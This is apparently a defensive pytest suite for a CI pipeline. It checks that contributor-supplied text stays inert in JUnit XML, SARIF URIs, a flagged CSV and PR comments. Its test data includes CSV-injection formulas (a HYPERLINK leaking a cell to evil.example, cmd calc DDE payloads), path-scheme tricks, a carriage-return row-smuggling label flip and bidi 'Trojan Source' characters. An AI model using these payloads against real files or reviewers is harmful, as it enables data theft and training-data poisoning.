"""Red team 13: pull-request text that reaches the feedback stage's reports.

A contributor names files, data columns, ids and classes; the gates quote them in findings, and
the feedback stage writes them into JUnit XML (CI test reporters parse it), SARIF (code-scanning
viewers resolve its URIs) and ``data.flagged.csv`` (a reviewer opens it in a spreadsheet). Each
planted text must leave the file well-formed and inert.
"""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from gates.base import Finding, Location, Status
from gates.feedback import junit
from gates.feedback.bundle import ReportBundle
from gates.feedback.collect import GateView
from gates.sarif_log import own_run, uri_path
from tests.feedback_support import gate_result, run_bundle


def _bundle(tmp_path: Path, findings: list[Finding], *, summary: str = "s") -> ReportBundle:
    result = gate_result(
        "data", Status.FAILED, findings, summary=summary, started="2026-12-07T00:00:00+00:00"
    )
    views = (GateView("data", "", result),)
    return run_bundle(tmp_path, views, policy="[data]\nlabel = 'y'\n")


# Characters XML 1.0 forbids beyond the C0 controls junit.py already drops: U+FFFE and U+FFFF
# (valid UTF-8, so a CSV header or a file name can carry them) and a lone surrogate (what
# Python's surrogateescape makes of a file name that is not UTF-8).
HOSTILE_XML = {
    "u+fffe": "col\ufffename",
    "u+ffff": "col\uffffname",
    "lone-surrogate": "bad\udcffname.py",
    "c1-and-c0-mix": "x\x1b[31mred\x00\x85",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
def test_junit_stays_well_formed_xml_whatever_a_finding_quotes(tmp_path: Path, case: str) -> None:
    text = HOSTILE_XML[case]
    finding = Finding("DATA011", f"column {text!s} is not in the contract")
    bundle = _bundle(tmp_path, [finding], summary=f"1 finding about {text}")
    written = tmp_path / "junit.xml"
    written.write_bytes(junit.render(bundle).encode("utf-8"))  # as the stage writes it
    root = ET.parse(written).getroot()  # noqa: S314 - our own output
    failure = root.find("testsuite/testcase[@name='data']/failure")
    assert failure is not None
    assert "DATA011" in (failure.text or "")
    assert "is not in the contract" in (failure.text or "")


# File names a pull request can commit (a folder named ``https:`` is a legal name): SARIF's
# ``artifactLocation.uri`` is a URI reference, so each must come out as a relative reference
# that names that very file, never another scheme, a host, a fragment or a query.
HOSTILE_PATHS = [
    "https:/evil.example/payload.py",
    "file:/etc/passwd",
    "javascript:alert(1).py",
    "src/a#b.py",
    "src/a?b=1.py",
    "src/a b%41.py",
    "//evil.example/x.py",
]


@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_a_sarif_uri_names_the_file_and_nothing_else(path: str) -> None:
    finding = Finding("SAST100", "x", location=Location(path=path, line=3))
    run = own_run([finding], name="gates", version="1", info_uri="https://x.invalid/")
    uri = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    parts = urlsplit(uri)
    # An absolute path is a file: URI without a host; anything else a relative reference.
    scheme = "file" if path.startswith("/") else ""
    assert (parts.scheme, parts.netloc, parts.query, parts.fragment) == (scheme, "", "", ""), uri
    assert uri_path(uri) == path


# Spreadsheet formulas (OWASP, "CSV Injection"): a cell that starts with one of these runs as a
# formula when a reviewer opens the file in Excel, LibreOffice or Google Sheets.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x\r-2+3+cmd|' /C calc'!A0",  # a bare CR (no comma, no double quote) starts a new row
]


def test_data_flagged_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import pandas as pd

    from gates.data_integrity import flagged_csv  # the writer of reports/data.flagged.csv

    frame = pd.DataFrame(
        {
            "row": list(range(len(FORMULAS) + 1)),
            "id": [*FORMULAS, "plain-id-7"],
            "check": ["labels"] * (len(FORMULAS) + 1),
            "score": [-0.5] * (len(FORMULAS) + 1),
            "reason": [*FORMULAS[::-1], "kNN votes disagree"],
        }
    )
    path = tmp_path / "data.flagged.csv"
    path.write_text(flagged_csv(frame), encoding="utf-8")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(FORMULAS) + 1
    for record in rows:
        for column in ("id", "reason"):
            assert record[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), record
    # The text is kept, one quote ahead; plain cells and numbers are as they were.
    assert rows[0]["id"] == "'" + FORMULAS[0]
    assert rows[-1]["id"] == "plain-id-7"
    assert rows[-1]["reason"] == "kNN votes disagree"
    assert rows[0]["score"] == "-0.5"


@pytest.mark.parametrize("path", HOSTILE_PATHS[:-1])
def test_a_tools_sarif_uri_merged_names_the_file_and_nothing_else(
    tmp_path: Path, path: str
) -> None:
    from urllib.parse import quote

    from gates.sarif_log import relative_uri

    uri = relative_uri(quote(path), tmp_path)  # as bandit writes it: percent-encoded
    parts = urlsplit(uri)
    assert (parts.scheme, parts.netloc, parts.query, parts.fragment) == ("", "", "", ""), uri
    assert uri_path(uri) == path


def test_feedback_approval_never_appends_a_row_the_screen_did_not_see(project, tmp_path):
    """Held (green before): approval appends the quarantined rows with ``csv.writer``, which
    quotes a field holding ``\\n`` but not one holding only a bare ``\\r``, and pandas reads a
    bare ``\\r`` as the end of a row. An outcome whose text id (the file's last column) is
    ``10000011\\r<a whole training row, label flipped>`` would be screened as one row and read
    back as two; but a whole row holds the delimiter, so the writer quotes the field and the
    training file gets exactly the 12 screened rows."""
    import io

    import pandas as pd

    from gates.feedback import quarantine
    from pipeline.data import read_table, write_lock
    from tests.gates.feedback.test_quarantine import _rows

    # Text ids (UUIDs, order numbers) in the file's last column, a layout the contract allows;
    # the data re-locked.
    policy = project.root / "policy.toml"
    text = policy.read_text(encoding="utf-8")
    typed = 'id = { dtype = "int64", min = 1, unique = true }'
    assert typed in text
    policy.write_text(text.replace(typed, 'id = { dtype = "string", unique = true }'), "utf-8")
    table = pd.read_csv(project.data_path, dtype={"id": str})
    columns = [c for c in table.columns if c != "id"] + ["id"]
    project.data_path.write_text(
        table[columns].to_csv(index=False, lineterminator="\n"), encoding="utf-8"
    )
    write_lock(project.load(), read_table(project.data_path, fmt="csv"))
    before = project.data_path.read_bytes()

    rows = _rows(project, 12)
    victim = table.iloc[5]
    flipped = "benign" if victim["diagnosis"] == "malignant" else "malignant"
    forged = ",".join([*(str(victim[c]) for c in columns[:-2]), flipped, "99999999"])
    rows[-1]["id"] = rows[-1]["id"] + "\r" + forged
    buffer = io.StringIO()
    writer = csv.DictWriter(
        buffer, fieldnames=list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL
    )
    writer.writeheader()
    writer.writerows(rows)
    source = tmp_path / "outcomes.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")

    batch = quarantine.ingest(project.load(), source)
    assert batch.status == quarantine.QUARANTINED, batch.problems
    _, problems = quarantine.approve(project.load(), batch.batch_id, by="alice")
    assert problems == []
    merged = pd.read_csv(project.data_path, dtype={"id": str})
    assert len(merged) == len(table) + 12
    assert "99999999" not in set(merged["id"]), "a row no screen saw is in the training data"
    assert project.data_path.read_bytes().startswith(before)


# Unicode format characters (category Cf): bidi overrides and isolates reorder what a reviewer
# sees ("Trojan Source", CVE-2021-42574); zero-width ones hide text between visible letters.
BIDI = {
    "rlo": ("src/x\u202eyp.lmth", "\u202e"),
    "rli": ("ok \u2067evil\u2069 done", "\u2067"),
    "lre": ("a\u202ab", "\u202a"),
    "zero-width-space": ("approve\u200bd", "\u200b"),
    "word-joiner": ("pass\u2060ed", "\u2060"),
    "bom": ("\ufeffx", "\ufeff"),
}


@pytest.mark.parametrize("case", sorted(BIDI))
def test_the_pr_comment_shows_format_characters_instead_of_obeying_them(case: str) -> None:
    from gates.feedback import markdown

    text, char = BIDI[case]
    shown = markdown.escape(f"DATA011 column {text} is not in the contract")
    assert char not in shown
    # Named (as it renders: the escape's backslash gone), so the reviewer sees something is there.
    assert f"U+{ord(char):04X}" in shown.replace("\\", "")
